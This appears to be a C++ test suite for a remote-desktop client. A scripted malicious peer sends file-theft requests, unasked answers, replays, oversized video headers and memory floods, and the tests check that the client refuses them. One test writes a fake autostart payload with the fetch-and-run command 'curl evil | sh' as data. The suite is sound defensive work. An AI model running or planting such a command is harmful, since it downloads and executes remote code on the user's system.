// A hostile Target against a real Master: the Target here is a script in the test process that
// registers, goes online and answers the Master's session through the real server like any
// device, then, holding the session key, sends what a malicious "support" machine would. The
// Master is the complete client stack. It must stay connected and responsive, serve nothing,
// write nothing and keep its memory bounded.

#include <cstdio>

#include <malloc.h>

#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QtEndian>

#include <gtest/gtest.h>

#include "av1_headers.h"
#include "crypto/aes_gcm_cipher.h"
#include "crypto/ecdh_key_exchange.h"
#include "device_stack.h"
#include "log_capture.h"
#include "process_memory.h"
#include "sanitizers.h"
#include "session/chat_service.h"
#include "session/file_transfer_service.h"
#include "session/session_channel.h"
#include "wait_until.h"

namespace nimbral {
namespace {

using test::json;
using Bytes = std::vector<std::uint8_t>;

constexpr const char* kTargetPassword = "Hostile-Pass1";

// The attacker: a device of its own at the server, the Target side of the key exchange, and the
// relay connection the Master falls back to when the attacker ignores its ICE offer.
class ScriptedTarget {
public:
    explicit ScriptedTarget(test::ServerProcess& server)
        : m_server(server)
        , m_rest(server.baseUrl()) {}

    bool goOnline() {
        m_device = test::registerDevice(m_rest);
        return test::goOnline(m_device, m_server.baseUrl(), kTargetPassword, "424242");
    }
    QString clientId() const { return m_device.clientId; }
    test::SignalingClient& signaling() { return *m_device.signaling; }

    // Takes the session the Master starts: acknowledges it with a key of its own and joins the
    // relay.
    bool answer() {
        const auto offer = m_device.signaling->next("SESSION_AUTO_ACCEPT", 10000);
        if (!offer) {
            return false;
        }
        m_sessionId = QString::fromStdString((*offer)["session_id"].get<std::string>());
        const std::string masterKey = (*offer)["master_ecdh_public_key"].get<std::string>();
        const test::HttpReply ack =
            m_rest.post("/sessions/" + m_sessionId + "/handshake-ack",
                        json{{"target_client_id", m_device.clientId.toStdString()},
                             {"target_ecdh_public_key", m_keys.publicKeyBase64()},
                             {"target_nat_type", "FULL_CONE"}},
                        m_device.token);
        if (ack.status != 200 || !m_keys.deriveSharedKey(masterKey)) {
            return false;
        }
        m_cipher = std::make_unique<AesGcmCipher>(m_keys.aesKey(), m_keys.baseIv(),
                                                  AesGcmCipher::kTargetInitialCounter);
        if (!m_relay.connectTo(m_server.relayPort())) {
            return false;
        }
        m_relay.write(test::joinFrame(m_sessionId));
        return true;
    }

    Bytes seal(const Bytes& plaintext) { return m_cipher->encrypt(plaintext); }
    // Sealed under a counter of the attacker's choosing (the cipher takes its counters from
    // where it is told to start).
    Bytes sealAt(std::uint64_t counter, const Bytes& plaintext) {
        AesGcmCipher at(m_keys.aesKey(), m_keys.baseIv(), counter);
        return at.encrypt(plaintext);
    }
    void sendRaw(ChannelType channel, const Bytes& sealed) {
        m_relay.write(test::relayFrame(static_cast<quint8>(channel),
                                       QByteArray(reinterpret_cast<const char*>(sealed.data()),
                                                  static_cast<qsizetype>(sealed.size()))));
    }
    void send(ControlTag tag, const Bytes& payload) {
        sendRaw(ChannelType::Control, seal(controlMessage(tag, payload)));
    }
    // Lets the socket hand what is queued to the kernel until at most `bytes` are left, so a
    // flood costs the attacker, who shares this process, only what it has in flight.
    bool drainTo(qint64 bytes) {
        return test::waitUntil(
            [&] {
                masterTags(); // keep reading what the Master sends
                return m_relay.socket().bytesToWrite() <= bytes;
            },
            60000);
    }

    // What the Master has sent so far, opened: the tag bytes of its control messages.
    std::vector<std::uint8_t> masterTags() {
        m_inbox += m_relay.socket().readAll();
        while (m_inbox.size() >= 5) {
            const quint32 length = qFromBigEndian<quint32>(m_inbox.constData() + 1);
            if (m_inbox.size() < 5 + static_cast<qsizetype>(length)) {
                break;
            }
            const QByteArray sealed = m_inbox.mid(5, length);
            const bool control = m_inbox.at(0) == 0;
            m_inbox.remove(0, 5 + length);
            const Bytes opened = m_cipher->decrypt(
                reinterpret_cast<const std::uint8_t*>(sealed.constData()), sealed.size());
            if (control && !opened.empty()) {
                m_tags.push_back(opened.front());
            }
        }
        return m_tags;
    }

    QString sessionId() const { return m_sessionId; }
    QTcpSocket& relaySocket() { return m_relay.socket(); }

private:
    test::ServerProcess& m_server;
    test::RestClient m_rest;
    test::Device m_device;
    EcdhKeyExchange m_keys;
    std::unique_ptr<AesGcmCipher> m_cipher;
    test::RelayClient m_relay;
    QString m_sessionId;
    QByteArray m_inbox;
    std::vector<std::uint8_t> m_tags;
};

// What the services would put on the wire, taken from their own send functions.
std::vector<Bytes> fileRequests(const std::function<void(FileTransferService&)>& ask) {
    std::vector<Bytes> sent;
    FileTransferService requester(FileTransferRole::Requester,
                                  [&sent](const Bytes& message) { sent.push_back(message); });
    ask(requester);
    return sent;
}

Bytes chatPayload(const QString& text) {
    Bytes payload;
    ChatService chat([&payload](const Bytes& bytes) { payload = bytes; });
    chat.sendMessage(text);
    return payload;
}

class HostilePeer : public ::testing::Test {
protected:
    static void SetUpTestSuite() {
        s_server = new test::ServerProcess;
        ASSERT_TRUE(s_server->start()) << s_server->output().toStdString();
    }
    static void TearDownTestSuite() {
        delete s_server;
        s_server = nullptr;
    }

    void SetUp() override {
        master = std::make_unique<test::DeviceStack>(*s_server, QString(), 300);
        ASSERT_TRUE(master->bringOnline());
        attacker = std::make_unique<ScriptedTarget>(*s_server);
        ASSERT_TRUE(attacker->goOnline());
        master->session.initiateSession(attacker->clientId(), kTargetPassword);
        ASSERT_TRUE(attacker->answer());
        // The attacker never answers the ICE offer: the Master falls back to the relay.
        ASSERT_WAIT(master->session.state() == SessionState::Connected, 15000);
        ASSERT_EQ(master->session.connectionMethod(), "relay");
        ASSERT_NE(master->session.chatService(), nullptr);
        ASSERT_NE(master->session.fileTransferService(), nullptr);
    }

    // A chat line from the attacker, waited for: the Master has handled everything sent before
    // it on the ordered control channel by then, and its event loop is turning.
    void barrier() {
        QSignalSpy arrived(master->session.chatService(), &ChatService::messageReceived);
        attacker->send(ControlTag::Chat, chatPayload(QStringLiteral("barrier")));
        ASSERT_TRUE(arrived.wait(10000)) << "the Master stopped handling messages";
        EXPECT_EQ(master->session.state(), SessionState::Connected);
    }

    static inline test::ServerProcess* s_server = nullptr;
    std::unique_ptr<test::DeviceStack> master;
    std::unique_ptr<ScriptedTarget> attacker;
};

TEST_F(HostilePeer, TheMastersFilesAreNeitherListedNorReadNorWritten) {
    test::LogCapture log;
    QTemporaryDir outside;
    const QString autostart = outside.filePath("autostart/evil.desktop");
    QDir().mkpath(outside.filePath("autostart"));
    QFile payload(outside.filePath("payload.desktop"));
    ASSERT_TRUE(payload.open(QIODevice::WriteOnly));
    payload.write("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n");
    payload.close();
    const QString settingsFile = master->folder.filePath("settings.ini");

    const std::vector<Bytes> requests = fileRequests([&](FileTransferService& ask) {
        ask.requestListing(QString());           // the volumes
        ask.requestListing(QStringLiteral("/")); // the root
        ask.requestListing(QDir::homePath());    // the user's home
        ask.requestDownload(settingsFile, QStringLiteral("loot.ini"));
        ask.requestDownload(QStringLiteral("/dev/zero"), QStringLiteral("zero"));
        ask.uploadFile(payload.fileName(), autostart);
    });
    ASSERT_GE(requests.size(), 8u); // the upload is start, data and end
    for (const Bytes& request : requests) {
        attacker->send(ControlTag::FileTransfer, request);
    }
    barrier();

    EXPECT_FALSE(QFile::exists(autostart));
    for (const std::uint8_t tag : attacker->masterTags()) {
        EXPECT_NE(tag, static_cast<std::uint8_t>(ControlTag::FileTransfer))
            << "the Master answered a file request";
    }
    EXPECT_TRUE(log.has(spdlog::level::warn, "FileTransfer: dropped a list request from the "
                                             "peer: only the Target serves files"));
    EXPECT_TRUE(log.has(spdlog::level::warn, "FileTransfer: dropped a download request from the "
                                             "peer: only the Target serves files"));
    EXPECT_TRUE(
        log.has(spdlog::level::warn,
                "FileTransfer: dropped a upload from the peer: only the Target serves files"));
}

TEST_F(HostilePeer, AnswersToQuestionsTheMasterNeverAskedAreDropped) {
    test::LogCapture log;
    QTemporaryDir served;
    QFile file(served.filePath("report.txt"));
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("unasked content");
    file.close();
    // Real answers, from a serving side of the attacker's own.
    std::vector<Bytes> answers;
    FileTransferService server(FileTransferRole::Server,
                               [&answers](const Bytes& message) { answers.push_back(message); });
    for (const Bytes& request : fileRequests([&](FileTransferService& ask) {
             ask.requestListing(served.path());
             ask.requestDownload(file.fileName(), QStringLiteral("x"));
         })) {
        server.handleMessage(request);
    }
    ASSERT_EQ(answers.size(), 2u);

    QSignalSpy listed(master->session.fileTransferService(), &FileTransferService::directoryListed);
    QSignalSpy downloaded(master->session.fileTransferService(),
                          &FileTransferService::fileDownloadComplete);
    for (const Bytes& answer : answers) {
        attacker->send(ControlTag::FileTransfer, answer);
    }
    barrier();
    EXPECT_EQ(listed.count(), 0);
    EXPECT_EQ(downloaded.count(), 0);
    EXPECT_TRUE(log.has(spdlog::level::warn,
                        "FileTransfer: dropped a listing that answers no request of ours"));
    EXPECT_TRUE(log.has(spdlog::level::warn,
                        "FileTransfer: dropped a download that answers no request of ours"));
}

TEST_F(HostilePeer, ReplaysAreDroppedAndTheTopOfTheCounterSpaceDoesNotHangTheMaster) {
    QSignalSpy chats(master->session.chatService(), &ChatService::messageReceived);
    const Bytes once = attacker->seal(controlMessage(ControlTag::Chat, chatPayload("once")));
    attacker->sendRaw(ChannelType::Control, once);
    attacker->sendRaw(ChannelType::Control, once);
    barrier();
    ASSERT_EQ(chats.count(), 2); // "once" a single time, then the barrier
    EXPECT_EQ(chats.at(0).at(0).toString(), "once");

    // The last two counters there are: the window must move up to them without wrapping.
    for (const std::uint64_t counter : {UINT64_MAX - 1, UINT64_MAX}) {
        attacker->sendRaw(
            ChannelType::Control,
            attacker->sealAt(counter, controlMessage(ControlTag::Chat, chatPayload("top"))));
    }
    ASSERT_WAIT(chats.count() == 4, 10000);
    EXPECT_EQ(chats.at(3).at(0).toString(), "top");
    // Counters below the window are refused from now on; the session itself still stands.
    EXPECT_EQ(master->session.state(), SessionState::Connected);
}

TEST_F(HostilePeer, APictureSizeBeyondAnyScreenIsRefusedBeforeItIsAllocated) {
    test::LogCapture log;
    attacker->sendRaw(ChannelType::Video,
                      attacker->seal(test::sequenceHeaderAnnouncing(65535, 65535)));
    barrier();
    EXPECT_TRUE(test::waitUntil(
        [&] {
            return log.hasPrefix(spdlog::level::warn,
                                 "AV1Decoder: refusing a stream of 65535x65535");
        },
        5000));
}

// Freed memory the allocator keeps is not the Master's: give it back before measuring.
long liveResidentKiB() {
    malloc_trim(0);
    return test::residentKiB();
}

TEST_F(HostilePeer, FloodsCostTheMasterABoundedAmountOfMemory) {
    barrier();
    const long before = liveResidentKiB();
    // 256 MiB of upload data the Master never asked for, and 128 MiB of garbage video, in
    // messages near the relay's frame limit; then a signaling flood of ICE candidates.
    constexpr qint64 kInFlight = 8 * 1024 * 1024;
    Bytes upload(4 * 1024 * 1024, 0x41);
    upload[0] = 6; // upload data
    for (int i = 0; i < 64; ++i) {
        attacker->send(ControlTag::FileTransfer, upload);
        ASSERT_TRUE(attacker->drainTo(kInFlight)) << "the Master stopped reading at " << i;
    }
    const Bytes garbage(4 * 1024 * 1024, 0x5a);
    for (int i = 0; i < 32; ++i) {
        attacker->sendRaw(ChannelType::Video, attacker->seal(garbage));
        ASSERT_TRUE(attacker->drainTo(kInFlight)) << "the Master stopped reading at " << i;
    }
    for (int i = 0; i < 300; ++i) {
        attacker->signaling().send({{"type", "ICE_CANDIDATE"},
                                    {"session_id", attacker->sessionId().toStdString()},
                                    {"target_client_id", master->clientId().toStdString()},
                                    {"candidate", "candidate:" + std::string(2000, 'x')},
                                    {"mid", "0"}});
    }
    barrier();
    const long after = liveResidentKiB();
    std::printf("flood of 384 MiB: the Master's resident memory went from %ld to %ld KiB\n", before,
                after);
    if (!test::kAddressSanitizer) {
        EXPECT_LT(after - before, 96 * 1024) << "grew from " << before << " to " << after << " KiB";
    }
    EXPECT_TRUE(master->session.fileTransferService() != nullptr);
}

} // namespace
} // namespace nimbral
